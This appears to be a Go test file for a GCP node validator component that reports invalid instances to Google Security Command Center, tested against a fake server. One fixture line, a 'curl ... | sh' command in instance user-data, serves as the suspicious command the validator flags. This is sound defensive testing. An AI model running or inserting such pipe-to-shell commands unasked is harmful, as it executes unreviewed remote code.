@@ -0,0 +1,150 @@
+package findings_test
+
+import (
+	"context"
+	"encoding/json"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/castai/gcp-node-validator/container/findings"
+	"github.com/castai/gcp-node-validator/container/validate"
+	"github.com/stretchr/testify/require"
+	"google.golang.org/api/option"
+	securitycenter "google.golang.org/api/securitycenter/v1"
+)
+
+const source = "organizations/123/sources/456"
+
+// fakeSecurityCenter stores the findings patched through the Security Command Center API.
+type fakeSecurityCenter struct {
+	mu       sync.Mutex
+	findings map[string]*securitycenter.Finding
+	patches  int
+}
+
+func (f *fakeSecurityCenter) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	name := strings.TrimPrefix(r.URL.Path, "/v1/")
+	if r.Method != http.MethodPatch || !strings.HasPrefix(name, source+"/findings/") {
+		http.NotFound(w, r)
+		return
+	}
+	if r.URL.Query().Get("updateMask") != "" {
+		http.Error(w, "unexpected update mask", http.StatusBadRequest)
+		return
+	}
+
+	finding := &securitycenter.Finding{}
+	if err := json.NewDecoder(r.Body).Decode(finding); err != nil {
+		http.Error(w, err.Error(), http.StatusBadRequest)
+		return
+	}
+
+	f.mu.Lock()
+	f.findings[name] = finding
+	f.patches++
+	f.mu.Unlock()
+
+	_ = json.NewEncoder(w).Encode(finding)
+}
+
+func newSecurityCenter(t *testing.T) (*fakeSecurityCenter, *findings.SecurityCenter) {
+	t.Helper()
+
+	fake := &fakeSecurityCenter{findings: map[string]*securitycenter.Finding{}}
+	srv := httptest.NewServer(fake)
+	t.Cleanup(srv.Close)
+
+	service, err := securitycenter.NewService(context.Background(), option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication())
+	require.NoError(t, err)
+	return fake, findings.NewSecurityCenter(service, source)
+}
+
+func TestSecurityCenter(t *testing.T) {
+	r := require.New(t)
+	ctx := context.Background()
+	observedAt := time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC)
+
+	fake, sink := newSecurityCenter(t)
+
+	result := &findings.ValidationResult{
+		SchemaVersion: findings.SchemaVersion,
+		Verdict:       validate.VerdictInvalid,
+		Project:       "project",
+		Zone:          "us-central1-a",
+		Instance:      "gke-cluster-pool-1",
+		InstanceID:    "42",
+		SelfLink:      "https://www.googleapis.com/compute/v1/projects/project/zones/us-central1-a/instances/gke-cluster-pool-1",
+		Cluster:       "cluster-id",
+		Principal:     "cast@project.iam.gserviceaccount.com",
+		Findings: []findings.Finding{{
+			Type:        findings.TypeUnknownCommands,
+			MetadataKey: validate.MetadataUserDataKey,
+			Lines:       []string{"curl https://example.com/install.sh | sh"},
+		}},
+		ObservedAt: observedAt,
+	}
+	r.NoError(sink.Report(ctx, result))
+
+	names := slices.Collect(maps.Keys(fake.findings))
+	r.Len(names, 1)
+	name := names[0]
+	finding := fake.findings[name]
+	r.Regexp(`^organizations/123/sources/456/findings/[0-9a-f]{32}$`, name)
+	r.Equal("//compute.googleapis.com/projects/project/zones/us-central1-a/instances/gke-cluster-pool-1", finding.ResourceName)
+	r.Equal(findings.CategoryUnknownCommands, finding.Category)
+	r.Equal("HIGH", finding.Severity)
+	r.Equal("ACTIVE", finding.State)
+	r.Equal("2024-01-01T12:00:00Z", finding.EventTime)
+
+	var properties map[string]any
+	r.NoError(json.Unmarshal(finding.SourceProperties, &properties))
+	r.Equal("cast@project.iam.gserviceaccount.com", properties["principal"])
+	r.Equal("--- whitelist\n+++ user-data\n+curl https://example.com/install.sh | sh\n", properties["diff"])
+
+	// Reporting the instance again updates its finding.
+	result.Action = &findings.Action{Name: "delete", Result: "applied"}
+	result.ObservedAt = observedAt.Add(time.Minute)
+	r.NoError(sink.Report(ctx, result))
+
+	r.Equal(2, fake.patches)
+	r.Len(fake.findings, 1)
+	r.Equal("2024-01-01T12:01:00Z", fake.findings[name].EventTime)
+
+	// Valid instances are not reported, other instances get their own finding.
+	r.NoError(sink.Report(ctx, &findings.ValidationResult{Verdict: validate.VerdictValid, Instance: "gke-cluster-pool-2", InstanceID: "43"}))
+	r.NoError(sink.Report(ctx, &findings.ValidationResult{
+		Verdict:  validate.VerdictUnverifiable,
+		Project:  "project",
+		Zone:     "us-central1-a",
+		Instance: "gke-cluster-pool-3",
+	}))
+	r.Equal(3, fake.patches)
+	r.Len(fake.findings, 2)
+	for _, finding := range fake.findings {
+		if finding.Category == findings.CategoryUnverifiable {
+			r.Equal("//compute.googleapis.com/projects/project/zones/us-central1-a/instances/gke-cluster-pool-3", finding.ResourceName)
+			r.Equal("LOW", finding.Severity)
+		}
+	}
+}
+
+func TestSecurityCenterError(t *testing.T) {
+	r := require.New(t)
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		http.Error(w, `{"error":{"code":403,"message":"permission denied"}}`, http.StatusForbidden)
+	}))
+	defer srv.Close()
+
+	service, err := securitycenter.NewService(context.Background(), option.WithEndpoint(srv.URL+"/"), option.WithoutAuthentication())
+	r.NoError(err)
+
+	err = findings.NewSecurityCenter(service, source).Report(context.Background(), &findings.ValidationResult{Verdict: validate.VerdictInvalid})
+	r.ErrorContains(err, "permission denied")
+}